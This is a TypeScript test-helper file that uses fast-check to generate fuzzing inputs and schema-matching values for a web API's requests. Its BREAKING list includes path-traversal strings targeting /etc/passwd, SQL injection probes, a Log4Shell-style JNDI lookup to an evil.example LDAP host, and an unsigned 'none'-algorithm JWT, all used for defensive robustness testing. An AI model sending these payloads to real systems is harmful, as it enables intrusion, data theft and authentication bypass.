/** Values for requests: hostile texts, and values that match a JSON Schema. */
import fc from "fast-check";
import type { JsonSchema } from "../../src/web/contract/document.ts";
import { HOSTILE_PATHS } from "../hostile-paths.ts";
import { HOSTILE } from "../hostile-text.ts";

/** A placeholder for the e-mail address of the sender, by which the sender's data is recognized wherever it appears. */
export const SENDER = "%sender%";

const BREAKING = [
  "%",
  "%00",
  "%2e%2e%2f",
  "%ff%fe",
  "../../../../etc/passwd",
  "..\\..\\windows",
  "\0",
  "a\0b",
  "\ud800",
  "\uffff",
  "\u2028",
  "' OR '1'='1",
  '" OR 1=1 --',
  "1; SELECT * FROM users",
  "*",
  "a* NEAR b",
  '"unclosed',
  "%_%",
  "NaN",
  "-0",
  "1e309",
  "9007199254740993",
  "99999999999999999999",
  "0x10",
  "true",
  "null",
  "undefined",
  "[object Object]",
  "constructor",
  "$" + "{jndi:ldap://evil.example}",
  "eyJhbGciOiJub25lIn0.e30.",
  "Iñtërnâtiônàlizætiøn",
  "00000000-0000-0000-0000-000000000000",
  "0190a000-0000-7000-8000-000000000000",
];

const repeated = fc
  .tuple(
    fc.constantFrom("a", "é", "𝕏", "%", "/", "9", " ", "\0"),
    fc.constantFrom(2, 64, 255, 257, 1_000, 4_001, 20_001),
  )
  .map(([unit, count]) => unit.repeat(count));

/** Any code point, lone surrogates included. fast-check's own units take a second to build their tables. */
const anyCharacter = fc.oneof(
  fc.integer({ min: 0, max: 0x10ffff }).map((code) => String.fromCodePoint(code)),
  fc.integer({ min: 0, max: 0x7f }).map((code) => String.fromCodePoint(code)),
  fc.constantFrom("é", "e\u0301", "👩‍👩‍👧", "ß", "İ", "ﬁ", "\u200d", "\u202e"),
);

/** Text that is likely to break something. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE, ...BREAKING), weight: 6 },
  { arbitrary: fc.constantFrom(...HOSTILE_PATHS.filter((path) => path !== undefined)), weight: 2 },
  { arbitrary: fc.string({ unit: anyCharacter, maxLength: 30 }), weight: 4 },
  { arbitrary: repeated, weight: 1 },
);

/** Text that a user may store. It is printable and short, and often contains the author's address. */
const storableText = fc.oneof(
  fc.constantFrom(...HOSTILE.filter((text) => !/[\r\n\0]/.test(text)), `of ${SENDER}`, "Zoë's 50% off_sale"),
  fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 40 }).map((text) => `x${text}`),
  fc.lorem({ maxCount: 8 }).map((text) => `${text} ${SENDER}`),
);

/** Any JSON value, possibly nested too deeply. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 4 },
  { arbitrary: hostileText, weight: 2 },
  { arbitrary: fc.constantFrom<unknown>(null, true, 0, -1, 1e308, 2 ** 53, [], {}, [[]], [null], ""), weight: 3 },
  { arbitrary: fc.integer({ min: 10, max: 900 }).map((depth) => nest(depth)), weight: 1 },
);

function nest(depth: number): unknown {
  let value: unknown = "end";
  for (let level = 0; level < depth; level += 1) value = level % 2 ? [value] : { a: value };
  return value;
}

type Shared = ReadonlyMap<string, JsonSchema>;

/** Generates values that match a schema, as far as its keywords allow. */
export function valueFor(schema: JsonSchema & { pattern?: string }, shared: Shared): fc.Arbitrary<unknown> {
  const { $ref, type, enum: values, anyOf, oneOf, items = {}, minimum = -5, maximum = 200 } = schema;
  if ($ref !== undefined) return valueFor(shared.get($ref.split("/").at(-1) ?? "") ?? {}, shared);
  if ("const" in schema) return fc.constant(schema.const);
  if (values) return fc.constantFrom(...values);
  const cases = anyOf ?? oneOf;
  if (cases) return fc.oneof(...cases.map((one) => valueFor(one, shared)));
  if (type === "string") return textOf(schema);
  if (type === "integer") return fc.integer({ min: minimum, max: Math.min(maximum, 2 ** 53 - 1) });
  if (type === "number") return fc.double({ min: minimum, max: maximum, noNaN: true });
  if (type === "boolean") return fc.boolean();
  if (type === "null") return fc.constant(null);
  if (type === "array") return fc.array(valueFor(items, shared), { minLength: schema.minItems ?? 0, maxLength: 4 });
  if (type === "object") return objectOf(schema, shared);
  return fc.jsonValue({ maxDepth: 1 });
}

function objectOf({ properties = {}, required = [] }: JsonSchema, shared: Shared): fc.Arbitrary<unknown> {
  const members = Object.entries(properties).map(([name, schema]) => [name, valueFor(schema, shared)] as const);
  return fc.record(Object.fromEntries(members), { requiredKeys: required.filter((name) => name in properties) });
}

function textOf({ format, pattern, minLength = 0, maxLength = 60 }: JsonSchema & { pattern?: string }) {
  if (format === "uuid") return fc.uuid({ version: 7 });
  if (format === "email") return fc.uuid().map((id) => `${id}@new.example`);
  if (format === "date-time") return fc.integer({ min: 1, max: 300 }).map(daysFromNow);
  if (pattern !== undefined) return fc.stringMatching(new RegExp(pattern, "u"));
  return storableText.map((text) => (text.length < minLength ? text.padEnd(minLength, "-") : text).slice(0, maxLength));
}

const daysFromNow = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString();
